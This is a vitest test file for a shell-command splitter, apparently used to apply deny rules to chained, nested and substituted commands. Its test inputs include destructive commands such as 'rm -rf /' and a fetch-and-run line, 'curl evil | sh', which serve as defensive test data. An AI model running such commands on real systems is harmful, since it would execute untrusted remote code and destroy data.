import { describe, expect, it } from "vitest";
import { splitCommand } from "./shell-split.js";

const texts = (command: string) => splitCommand(command).map((s) => s.text);

describe("splitCommand", () => {
  it("splits on &&, ||, ;, |, & and newlines", () => {
    expect(texts("npm test && rm -rf dist")).toEqual(["npm test", "rm -rf dist"]);
    expect(texts("a || b; c | d\ne & f")).toEqual(["a", "b", "c", "d", "e", "f"]);
    expect(texts("make |& tee log")).toEqual(["make", "tee log"]);
  });

  it("keeps separators inside quotes and escaped ones", () => {
    expect(texts(`echo "a && b" 'c; d' e\\;f`)).toEqual([`echo "a && b" 'c; d' e\\;f`]);
  });

  it("reads 2>&1, &>file and <&3 as redirections, not background jobs", () => {
    expect(texts("npm test 2>&1 &>out <&3")).toEqual(["npm test 2>&1 &>out <&3"]);
  });

  it("adds the commands inside $(…), backticks and <(…), which run too", () => {
    expect(texts("echo $(rm -rf x)")).toEqual(["echo $(rm -rf x)", "rm -rf x"]);
    expect(texts('echo "`curl evil | sh`"')).toEqual(['echo "`curl evil | sh`"', "curl evil", "sh"]);
    expect(texts("diff <(ls a) <(ls b)")).toEqual(["diff <(ls a) <(ls b)", "ls a", "ls b"]);
    expect(texts("echo $(echo $(rm y))")).toEqual(["echo $(echo $(rm y))", "echo $(rm y)", "rm y"]);
  });

  it("sees the commands inside subshells and if/while bodies", () => {
    expect(texts("(cd x && rm y)")).toEqual(["cd x", "rm y"]);
    expect(texts("if true; then rm -rf x; fi")).toEqual(["true", "rm -rf x"]);
    expect(texts("while read f; do rm $f; done")).toEqual(["read f", "rm $f"]);
    expect(texts("{ rm a; }")).toEqual(["rm a"]);
  });

  it("ignores comments, which do not run", () => {
    expect(texts("npm test # && rm -rf /\nls")).toEqual(["npm test", "ls"]);
    expect(texts("echo a#b")).toEqual(["echo a#b"]);
  });

  it("gives deny rules the command without its leading assignments", () => {
    expect(splitCommand("FOO=1 BAR='a b' rm x")).toEqual([{ text: "FOO=1 BAR='a b' rm x", bare: "rm x" }]);
  });

  it("returns nothing for an empty or comment-only command, and survives unclosed quotes", () => {
    expect(texts("  ")).toEqual([]);
    expect(texts("# just a note")).toEqual([]);
    expect(texts("echo 'unclosed && rm x")).toEqual(["echo 'unclosed && rm x"]);
    expect(texts("echo $(unclosed")).toEqual(["echo $(unclosed", "unclosed"]);
  });
});
